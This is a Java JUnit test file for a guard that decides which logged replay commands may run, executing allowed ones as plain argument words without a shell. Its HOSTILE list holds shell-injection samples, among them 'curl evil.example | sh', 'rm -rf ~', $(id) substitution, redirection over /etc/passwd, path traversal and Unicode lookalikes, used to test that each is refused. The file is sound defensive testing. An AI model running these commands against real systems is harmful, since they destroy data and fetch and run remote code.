package dev.triagerules.replay;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.triagerules.base.Problem;
import dev.triagerules.policy.Policy;
import dev.triagerules.policy.PolicyLoader;
import java.io.BufferedReader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** Which replay commands run, as what, and why the others are refused. */
class CommandGuardTest {
    /** Real commands of the upstream's logs, one of each form. */
    static final List<String> UPSTREAM = List.of(
            "cargo test -p ft-conformance strict_nn_state_conformance_is_green -- --nocapture # mode=strict",
            "cargo test -p ft-conformance strict_dispatch_conformance_is_green -- --nocapture # mode=hardened --run 4576",
            "cargo test -p ft-conformance x -- --nocapture",
            "cargo run -p ft-conformance --bin run_e2e_matrix -- --mode strict --packet FT-P2C-007"
                    + " --output artifacts/phase2c/e2e_forensics/ft-p2c-007.jsonl --run 40",
            "cargo run -p ft-conformance --bin run_e2e_matrix -- --mode hardened --packet FT-P2C-005"
                    + " --output artifacts/phase2c/e2e_forensics/ft-p2c-005.jsonl",
            "cargo run -p ft-conformance --bin run_e2e_matrix -- --mode strict --packet FT-P2C-003"
                    + " --scenario dispatch_key/strict:case_4",
            "sh examples/replay-demo.sh --packet FT-P2C-008 --scenario nn_state/hardened:case_3");

    /** Each is an allowed command with something smuggled in. */
    static final List<String> HOSTILE = List.of(
            "cargo test -p ft-conformance x -- --nocapture; curl evil.example | sh",
            "cargo test -p ft-conformance x -- --nocapture && rm -rf ~",
            "cargo test -p ft-conformance x -- --nocapture | sh",
            "cargo test -p ft-conformance $(id) -- --nocapture",
            "cargo test -p ft-conformance `id` -- --nocapture",
            "cargo test -p ft-conformance x -- --nocapture > /etc/passwd",
            "cargo test -p ft-conformance x -- --nocapture\nrm -rf ~",
            "cargo test -p ft-conformance x -- --nocapture\rrm -rf ~",
            "cargo${IFS}test -p ft-conformance x -- --nocapture",
            "cargo test -p ft-conformance x* -- --nocapture",
            "cargo test -p ft-conformance x? -- --nocapture",
            "cargo test -p ft-conformance [x] -- --nocapture",
            "cargo test -p ft-conformance --config=build.rustc-wrapper=/tmp/evil -- --nocapture",
            "cargo test -p ft-conformance -Zunstable-options -- --nocapture",
            "cargo test -p ft-conformance 'x' -- --nocapture",
            "cargo test -p ft-conformance \"x\" -- --nocapture",
            "cargo test -p ft-conformance x -- --nocapture # mode=strict; rm -rf ~",
            "cargo test -p ft-conformance x\u0000 -- --nocapture",
            "cargo test -p ft-conformance x\u001b[2J -- --nocapture",
            "cargo test -p ft-conformance x -- --nocapture\t# mode=strict",
            "cargo test -p ft\u2010conformance x -- --nocapture",
            "cargo test -p ft-conformance x -- --nocapture\uff1b rm -rf ~",
            "ｃargo test -p ft-conformance x -- --nocapture",
            "cargo test -p ft-conformance x -- --nocapture & sleep 1000",
            "cargo test -p ft-conformance ~/x -- --nocapture",
            "cargo test -p ft-conformance x -- --nocapture --run 1",
            "cargo run -p ft-conformance --bin run_e2e_matrix -- --mode strict --packet FT-P2C-007"
                    + " --output /etc/passwd",
            "cargo run -p ft-conformance --bin run_e2e_matrix -- --mode strict --packet FT-P2C-007"
                    + " --output artifacts/phase2c/e2e_forensics/../../../x.jsonl",
            "sh examples/replay-demo.sh --packet FT-P2C-008 --scenario nn_state/hardened:case_3 -c id",
            "sh -c id examples/replay-demo.sh",
            "sh ../examples/replay-demo.sh --packet FT-P2C-008 --scenario nn_state/hardened:case_3",
            "PATH=/tmp sh examples/replay-demo.sh --packet FT-P2C-008 --scenario nn_state/hardened:case_3",
            " cargo test -p ft-conformance x -- --nocapture",
            "cargo  test -p ft-conformance x -- --nocapture",
            // $ only at the end of a word, # only inside one: anything a shell would expand is refused.
            "cargo test -p ft-conformance x$HOME -- --nocapture",
            "cargo test -p ft-conformance x$1 -- --nocapture",
            "cargo test -p ft-conformance x$$ -- --nocapture",
            "cargo test -p ft-conformance x$# -- --nocapture",
            "cargo test -p ft-conformance x$@ -- --nocapture",
            "cargo test -p ft-conformance x$(id) -- --nocapture",
            "cargo test -p ft-conformance x${IFS}y -- --nocapture",
            "cargo test -p ft-conformance x#$(id) -- --nocapture",
            "cargo test -p ft-conformance x -- --nocapture # $(id)",
            "cargo test -p ft-conformance ^x$;id -- --nocapture",
            "");

    private static CommandGuard bundled() {
        List<Problem> problems = new ArrayList<>();
        Policy policy = PolicyLoader.load(Path.of("policy"), problems);
        assertTrue(problems.stream().noneMatch(Problem::isError), problems.toString());
        return CommandGuard.of(policy.replay(), false);
    }

    @Test
    void theBundledPolicyRunsTheUpstreamFormsAsWordsWithoutAShell() {
        CommandGuard guard = bundled();
        for (String command : UPSTREAM) {
            CommandGuard.Decision decision = guard.check(command);
            assertNull(decision.refusal(), command);
            assertFalse(decision.argv().contains("#"), command);
        }
        assertEquals(List.of("cargo", "test", "-p", "ft-conformance", "strict_nn_state_conformance_is_green", "--",
                "--nocapture"), guard.check(UPSTREAM.get(0)).argv(), "the # comment is dropped, as sh would");
        assertEquals(List.of("sh", "examples/replay-demo.sh", "--packet", "FT-P2C-008", "--scenario",
                "nn_state/hardened:case_3"), guard.check(UPSTREAM.get(6)).argv());
    }

    @Test
    void everyReplayCommandOfTheBundledAndUpstreamLogsIsAllowed() throws IOException {
        Set<String> commands = new TreeSet<>(commandsIn(Path.of("examples/sample-e2e.jsonl")));
        // The upstream golden logs inside the project hold every command of the upstream logs too
        // (checked when they were copied in); reading ../shared instead made the test's reach depend
        // on the machine. u128-timestamps.jsonl is hand-made: its commands are no real ones.
        for (String log : List.of("e2e_matrix_full_v1", "edge-cases", "ft-p2c-005", "generated-a", "generated-b")) {
            commands.addAll(commandsIn(Path.of("src/test/resources/golden/logs", log + ".jsonl")));
        }
        commands.remove("changed"); // an edge case of the golden set, not a command
        CommandGuard guard = bundled();
        CommandGuard head = CommandGuard.of(PolicyLoader.load(Path.of("examples/frankentorch-head/policy"),
                new ArrayList<>()).replay(), false);
        for (String command : commands) {
            assertTrue(guard.check(command).allowed(), command);
            assertTrue(head.check(command).allowed(), command);
        }
        assertTrue(commands.size() >= 20, "read the example log: " + commands.size());
    }

    @Test
    void hostileCommandsAreRefusedWithAReason() {
        CommandGuard guard = bundled();
        for (String command : HOSTILE) {
            CommandGuard.Decision decision = guard.check(command);
            assertFalse(decision.allowed(), () -> "ran: " + command);
            assertEquals(List.of(), decision.argv(), command);
            assertFalse(decision.refusal().isBlank(), command);
        }
        assertEquals("character ';' (U+003B) at column 46 is not allowed (a command runs only as words of letters,"
                + " digits and _ . / : = , @ + % - ^ separated by spaces, # inside a word and $ at its end, with an"
                + " optional # comment)",
                guard.check(HOSTILE.get(0)).refusal());
        assertTrue(guard.check("cargo test -p ft\u2010conformance x -- --nocapture").refusal()
                .startsWith("character U+2010 at column 17 is not allowed"));
        assertTrue(guard.check("cargo test -p ft-conformance --config=x -- --nocapture").refusal()
                .startsWith("matches none of the 3 replay.allow pattern(s) (policy/replay.yaml:"));
    }

    @Test
    void evenAPatternThatAllowsEverythingCannotLetShellSyntaxThrough() throws Exception {
        CommandGuard everything = new CommandGuard(List.of(Pattern.compile(".*", Pattern.DOTALL)), null, false);
        for (String command : HOSTILE) {
            CommandGuard.Decision decision = everything.check(command);
            if (decision.allowed()) {
                // Only plain words pass, and they run without a shell: nothing here is shell syntax.
                assertEquals(decision.argv(), wordsOfARealShell(command), command);
            }
        }
        assertFalse(everything.check("x; y").allowed());
        assertFalse(everything.check("-x y").allowed(), "a leading - is not a program");
    }

    /**
     * What a person who pastes a command into a shell gets is what the guard runs: for every
     * command it accepts, the words a real POSIX sh makes of it are the guard's words.
     */
    @Test
    void whatPassesMeansTheSameInARealShell() throws Exception {
        CommandGuard everything = new CommandGuard(List.of(Pattern.compile(".*", Pattern.DOTALL)), null, false);
        List<String> literal = List.of(
                "mvn test -Dtest=demo.CalculatorTest#dividesByZero",
                "mvn verify -Dit.test=demo.CheckoutIT#paysTwice # mode=it",
                "go test -run ^TestParseDuration$ ./parse",
                "go test -run ^Test$ ./x$ $ a^b ^ a#b#c# x#$",
                "x -a=b,c@d+e%f:g/h.i_j # a comment$ with ^ and # inside");
        for (String command : literal) {
            CommandGuard.Decision decision = everything.check(command);
            assertNull(decision.refusal(), command);
            assertEquals(wordsOfARealShell(command), decision.argv(), command);
        }
        assertEquals(List.of("go", "test", "-run", "^TestParseDuration$", "./parse"),
                everything.check(literal.get(2)).argv());
        for (String command : HOSTILE) {
            CommandGuard.Decision decision = everything.check(command);
            if (decision.allowed()) {
                assertEquals(wordsOfARealShell(command), decision.argv(), command);
            }
        }
    }

    /** The words {@code /bin/sh} makes of the command (its program included), read back NUL-separated. */
    private static List<String> wordsOfARealShell(String command) throws IOException, InterruptedException {
        Process sh = new ProcessBuilder("/bin/sh", "-c", "printf '%s\\0' " + command).redirectErrorStream(true).start();
        String out = new String(sh.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
        assertEquals(0, sh.waitFor(), out);
        List<String> words = new ArrayList<>(List.of(out.split("\0", -1)));
        words.remove(words.size() - 1);
        return words;
    }

    @Test
    void withoutPatternsNothingRunsAndAllowAnyRunsAShell() {
        CommandGuard none = new CommandGuard(List.of(), null, false);
        assertTrue(none.check("cargo test -p ft-conformance x -- --nocapture").refusal()
                .startsWith("the policy has no replay.allow patterns"));
        CommandGuard any = new CommandGuard(List.of(), null, true);
        assertEquals(List.of("sh", "-c", "echo a; echo b"), any.check("echo a; echo b").argv());
    }

    @Test
    void displayQuotesWhatIsNotAPlainWord() {
        assertEquals("cargo test -p x", CommandWords.display(List.of("cargo", "test", "-p", "x")));
        assertEquals("sh -c 'echo '\\''a'\\''; id\\n'", CommandWords.display(List.of("sh", "-c", "echo 'a'; id\n")));
        assertEquals("go test -run ^TestX$ ./x mvn -Dtest=a.B#c '#c' '$x' 'a$b'",
                CommandWords.display(List.of("go", "test", "-run", "^TestX$", "./x", "mvn", "-Dtest=a.B#c", "#c", "$x",
                        "a$b")));
    }

    private static List<String> commandsIn(Path log) throws IOException {
        ObjectMapper json = new ObjectMapper();
        List<String> commands = new ArrayList<>();
        try (BufferedReader lines = Files.newBufferedReader(log)) {
            for (String line = lines.readLine(); line != null; line = lines.readLine()) {
                try {
                    JsonNode command = json.readTree(line).get("replay_command");
                    if (command != null && command.isTextual()) {
                        commands.add(command.asText());
                    }
                } catch (IOException e) {
                    // an invalid line of the golden edge cases: no command to check
                }
            }
        }
        return commands;
    }
}
